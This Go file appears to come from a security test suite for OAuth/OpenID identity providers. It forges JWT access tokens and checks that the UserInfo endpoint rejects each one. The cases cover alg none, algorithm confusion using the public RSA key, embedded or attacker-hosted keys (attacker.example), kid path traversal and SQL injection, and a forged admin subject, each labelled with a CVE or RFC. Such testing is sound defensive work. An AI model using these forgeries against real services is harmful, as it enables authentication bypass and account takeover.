package attack

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
)

// tokenCases forge access tokens and present them to the UserInfo endpoint, which takes a genuine one.
func tokenCases() (all []attempt) {
	for _, f := range []struct {
		name, source string
		forge        func(r *run, token string) (string, error)
	}{
		{"alg none", "CVE-2015-9235", func(_ *run, t string) (string, error) { return reheaded(t, `{"alg":"none","typ":"JWT"}`, "") }},
		{"alg None", "CVE-2020-28042", func(_ *run, t string) (string, error) { return reheaded(t, `{"alg":"NoNe","typ":"JWT"}`, "") }},
		{"no signature", "CVE-2018-1000531", func(_ *run, t string) (string, error) { return t[:strings.LastIndex(t, ".")+1], nil }},
		{"HS256 with the public key", "CVE-2016-5431", (*run).confused},
		{"a key of its own in the header", "CVE-2018-0114", func(_ *run, t string) (string, error) {
			return reheaded(t, `{"alg":"HS256","typ":"JWT","jwk":{"kty":"oct","k":"YXR0YWNr"}}`, "attack")
		}},
		{"a key address in the header", "RFC 8725 section 3.10", func(_ *run, t string) (string, error) {
			return reheaded(t, `{"alg":"RS256","typ":"JWT","jku":"https://attacker.example/jwks.json"}`, "attack")
		}},
		{"an unknown crit", "RFC 7515 section 4.1.11", func(_ *run, t string) (string, error) { return inHeader(t, `"crit":["exp"],"exp":1`) }},
		{"an unencoded payload", "RFC 7797", func(_ *run, t string) (string, error) { return inHeader(t, `"crit":["b64"],"b64":false`) }},
		{"another type", "RFC 8725 section 3.11", func(r *run, _ string) (string, error) { return r.idToken() }},
		{"another kid", "RFC 8725 section 3.10", func(_ *run, t string) (string, error) {
			return reheaded(t, `{"alg":"RS256","typ":"JWT","kid":"../../dev/null"}`, "attack")
		}},
		{"a kid for the database", "CVE-2022-23529", func(_ *run, t string) (string, error) {
			return reheaded(t, `{"alg":"RS256","typ":"JWT","kid":"' OR '1'='1"}`, "attack")
		}},
		{"a subject of its own", "RFC 7515 section 5.2", func(_ *run, t string) (string, error) { return inPayload(t, `"sub":"auth0|admin"`) }},
		{"a member that comes twice", "RFC 7515 section 4", func(_ *run, t string) (string, error) { return inHeader(t, `"alg":"none"`) }},
		{"a dot too many", "CVE-2022-39366", func(_ *run, t string) (string, error) { return t + ".", nil }},
		{"a dot before it", "CVE-2022-39366", func(_ *run, t string) (string, error) { return "." + t, nil }},
		{"a line break in it", "RFC 7515 section 7.1", func(_ *run, t string) (string, error) { return t[:20] + "%0A" + t[20:], nil }},
		{"padding", "RFC 7515 section 2", func(_ *run, t string) (string, error) { return t + "==", nil }},
		{"five parts", "CVE-2024-28180", func(_ *run, t string) (string, error) { return t + "." + t, nil }},
		{"very long", "CVE-2024-28122", func(_ *run, t string) (string, error) { return t + strings.Repeat("A", 12<<10), nil }},
	} {
		all = append(all, attempt{"access token", f.name, f.source, func(r *run) error {
			good, err := r.accessToken()
			if err != nil {
				return err
			}
			forged, err := f.forge(r, good)
			if err != nil {
				return err
			}
			return r.refusesToken("Bearer " + forged)
		}})
	}
	all = append(all, attempt{"access token", "changed at each place", "RFC 7515 section 5.2", func(r *run) error {
		good, err := r.accessToken()
		if err != nil {
			return err
		}
		for _, changed := range spoiled(good) {
			if strings.ContainsRune(changed, 0) {
				continue // no HTTP client sends it
			}
			if err := r.refusesToken("Bearer " + changed); err != nil {
				return err
			}
		}
		return nil
	}})
	for _, h := range []struct{ name, prefix string }{
		{"without a scheme", ""}, {"as Basic", "Basic "}, {"as an unknown scheme", "Token "}, {"with a comma", "Bearer ,"}, {"with a name", "Bearer token="},
	} {
		all = append(all, attempt{"Authorization header", h.name, "RFC 6750 section 2.1", func(r *run) error {
			good, err := r.accessToken()
			if err != nil {
				return err
			}
			return r.refusesToken(h.prefix + good)
		}})
	}
	return append(all,
		attempt{"Authorization header", "sent twice", "RFC 6750 section 2", func(r *run) error {
			good, err := r.accessToken()
			if err != nil {
				return err
			}
			a, err := r.send(http.MethodGet, r.meta.UserInfo, []string{"Authorization", "Bearer x", "Authorization", "Bearer " + good}, "")
			return refusedAs(a, err)
		}},
		attempt{"Authorization header", "in the header and in the body", "RFC 6750 section 2", func(r *run) error {
			good, err := r.accessToken()
			if err != nil {
				return err
			}
			a, err := r.send(http.MethodPost, r.meta.UserInfo, []string{"Authorization", "Bearer " + good, "Content-Type", "application/x-www-form-urlencoded"},
				encode([]string{"access_token", good}))
			return refusedAs(a, err)
		}},
	)
}

// accessToken is a JWT where the target has an API.
func (r *run) accessToken() (string, error) { return r.issued("access_token") }

func (r *run) idToken() (string, error) { return r.issued("id_token") }

func (r *run) issued(name string) (string, error) {
	if r.Audience == "" {
		return "", absent("the target was given without an API whose tokens are JWTs")
	}
	code, err := r.code(r.Native, "audience", r.Audience)
	if err != nil {
		return "", err
	}
	a, err := r.exchange(r.Native, code)
	if err != nil {
		return "", err
	}
	token := a.text(name)
	if strings.Count(token, ".") != 2 {
		return "", absent("the token is no JWT")
	}
	if name == "access_token" {
		good, err := r.send(http.MethodGet, r.meta.UserInfo, []string{"Authorization", "Bearer " + token}, "")
		if err != nil || good.status != http.StatusOK {
			return "", fmt.Errorf("a genuine token is refused: %d %w", good.status, err)
		}
	}
	return token, nil
}

func (r *run) refusesToken(authorization string) error {
	a, err := r.send(http.MethodGet, r.meta.UserInfo, []string{"Authorization", authorization}, "")
	return refusedAs(a, err)
}

// refusedAs fails where the answer tells of a user, or where the server broke.
func refusedAs(a answer, err error) error {
	switch {
	case err != nil:
		return err
	case a.status < 400 || a.status > 499:
		return works("the answer is %d: %.200s", a.status, a.body)
	case a.text("sub") != "":
		return works("the answer has a sub")
	}
	return nil
}

var b64 = base64.RawURLEncoding

// reheaded puts another header before the claims and signs by HMAC; no key means no signature.
func reheaded(token, header, key string) (string, error) {
	parts := strings.Split(token, ".")
	input := b64.EncodeToString([]byte(header)) + "." + parts[1]
	if key == "" {
		return input + ".", nil
	}
	mac := hmac.New(sha256.New, []byte(key))
	mac.Write([]byte(input))
	return input + "." + b64.EncodeToString(mac.Sum(nil)), nil
}

func inHeader(token, member string) (string, error)  { return inPart(token, 0, member) }
func inPayload(token, member string) (string, error) { return inPart(token, 1, member) }

// inPart adds a member at the end of a JSON part, under the old signature.
func inPart(token string, at int, member string) (string, error) {
	parts := strings.Split(token, ".")
	raw, err := b64.DecodeString(parts[at])
	if err != nil {
		return "", err
	}
	parts[at] = b64.EncodeToString([]byte(strings.TrimSuffix(string(raw), "}") + "," + member + "}"))
	return strings.Join(parts, "."), nil
}

// confused signs by HMAC with what everybody may read: the modulus as the key set has it.
func (r *run) confused(token string) (string, error) {
	a, err := r.send(http.MethodGet, r.meta.JWKS, nil, "")
	if err != nil {
		return "", err
	}
	var set struct {
		Keys []struct{ Kid, N string }
	}
	if err := json.Unmarshal([]byte(a.body), &set); err != nil || len(set.Keys) == 0 {
		return "", absent("the key set has no RSA key")
	}
	return reheaded(token, fmt.Sprintf(`{"alg":"HS256","typ":"JWT","kid":%q}`, set.Keys[0].Kid), set.Keys[0].N)
}
